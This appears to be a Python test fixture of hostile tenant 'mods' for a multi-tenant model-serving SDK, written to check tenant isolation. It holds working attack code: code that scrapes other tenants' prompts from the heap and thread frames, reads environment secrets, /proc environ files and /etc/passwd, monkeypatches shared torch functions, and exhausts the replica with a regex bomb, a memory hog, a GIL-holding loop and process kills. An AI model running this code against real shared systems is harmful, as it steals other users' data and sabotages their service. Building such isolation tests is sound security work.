"""A hostile tenant's mods: each one signed and published like any other, each one an attack.

Published by the test as `globex` (serialize_mod ships this whole file; each test selects one
entry point). The ones that look for something say what they found through `force_output`, so
the test reads the attacker's own answer; the others try to hurt the replica or its neighbours.
"""

from __future__ import annotations

import gc
import os
import re
import sys
import time

from quote_mod_sdk import ForwardPass, mod

# acme's prompts carry "ACME-CONFIDENTIAL-<4 digits>" (written in the test, never in this file).
SECRET_PATTERN = re.compile(r"ACME-CONFIDENTIAL-[0-9]{4}")


def _say(actions, tokenizer, text):  # type: ignore[no-untyped-def]
    return actions.force_output(tokenizer.encode(text, add_special_tokens=False))


@mod
def snoop(event, actions, tokenizer):  # type: ignore[no-untyped-def]
    """Other tenants' live prompts and mods: the heap, every thread's frames, loaded modules."""
    if not isinstance(event, ForwardPass) or event.step != 3:
        return None
    found = []
    for obj in gc.get_objects():
        try:
            if isinstance(obj, str) and SECRET_PATTERN.search(obj):
                found.append("heap")
                break
            if isinstance(obj, (list, tuple)) and any(
                isinstance(x, str) and SECRET_PATTERN.search(x) for x in obj[:64]
            ):
                found.append("heap")
                break
        except Exception:
            continue
    for frame in sys._current_frames().values():
        while frame is not None:
            if any(isinstance(v, str) and SECRET_PATTERN.search(v) for v in list(frame.f_locals.values())[:64]):
                found.append("frames")
            frame = frame.f_back
    if any("acme" in name for name in sys.modules):
        found.append("modules")
    return _say(actions, tokenizer, "FOUND " + ",".join(found) if found else "NOTHING")


@mod
def steal(event, actions, tokenizer):  # type: ignore[no-untyped-def]
    """The replica's secrets: environment, the engine's /proc, files, the network."""
    if not isinstance(event, ForwardPass) or event.step != 1:
        return None
    got = [f"env:{k}={v}" for k, v in os.environ.items() if "QUOTE" in k or "SECRET" in k or "KEY" in k]
    for path in (f"/proc/{os.getppid()}/environ", "/proc/1/environ", f"/proc/{os.getppid()}/cmdline", "/etc/passwd"):
        try:
            with open(path, "rb") as handle:
                got.append(f"{path}:" + handle.read(4096).decode(errors="replace"))
        except OSError:
            pass
    try:
        import socket

        with socket.create_connection(("127.0.0.1", 80), timeout=0.5):
            pass
        got.append("socket")
    except OSError as exc:
        if "refused" in str(exc).lower():  # the connect call itself went out: the network is reachable
            got.append("network")
    return _say(actions, tokenizer, "GOT " + " | ".join(got) if got else "NOTHING")


@mod
def patcher(event, actions):  # type: ignore[no-untyped-def]
    """Monkeypatches shared modules, hoping to rewrite other tenants' later outputs."""
    import torch

    from quote_mod_sdk import generation

    torch.Tensor.clone = lambda self, *a, **k: torch.zeros_like(self)  # type: ignore[method-assign]
    torch.argmax = lambda *a, **k: torch.tensor(0)  # type: ignore[assignment]
    generation.Generation.sampled = lambda *a, **k: None  # type: ignore[method-assign]
    return None


@mod
def sleeper(event, actions):  # type: ignore[no-untyped-def]
    if isinstance(event, ForwardPass) and event.step == 1:
        time.sleep(30)


@mod
def gil_holder(event, actions):  # type: ignore[no-untyped-def]
    """One long C call that never releases the GIL."""
    if isinstance(event, ForwardPass) and event.step == 1:
        sum(range(10**11))


@mod
def regex_bomb(event, actions):  # type: ignore[no-untyped-def]
    if isinstance(event, ForwardPass) and event.step == 1:
        re.match(r"(a+)+$", "a" * 64 + "b")


@mod
def stubborn(event, actions):  # type: ignore[no-untyped-def]
    """Swallows whatever is raised to stop it, forever."""
    if isinstance(event, ForwardPass) and event.step == 1:
        while True:
            try:  # noqa: SIM105  (the attack: a bare except that swallows the budget)
                time.sleep(0.1)
            except BaseException:
                pass


@mod
def just_under(event, actions):  # type: ignore[no-untyped-def]
    """Sleeps just under the replica's budget (2 s) at every step: never flagged, always late."""
    if isinstance(event, ForwardPass):
        time.sleep(1.2)


@mod
def hog(event, actions):  # type: ignore[no-untyped-def]
    if isinstance(event, ForwardPass) and event.step == 1:
        blocks = []
        while True:
            blocks.append(bytearray(256 << 20))


@mod
def exiter(event, actions):  # type: ignore[no-untyped-def]
    if isinstance(event, ForwardPass) and event.step == 1:
        raise SystemExit(0)


@mod
def interrupter(event, actions):  # type: ignore[no-untyped-def]
    if isinstance(event, ForwardPass) and event.step == 1:
        raise KeyboardInterrupt


@mod
def base_raiser(event, actions):  # type: ignore[no-untyped-def]
    if isinstance(event, ForwardPass) and event.step == 1:
        raise BaseException("out of the engine loop")


@mod
def process_killer(event, actions):  # type: ignore[no-untyped-def]
    if isinstance(event, ForwardPass) and event.step == 1:
        os._exit(0)


@mod
def string_row(event, actions):  # type: ignore[no-untyped-def]
    """A logits 'row' of the right length, holding strings."""
    if isinstance(event, ForwardPass) and event.step == 1:
        return actions.adjust_logits(["x"] * int(event.logits.shape[-1]))
    return None
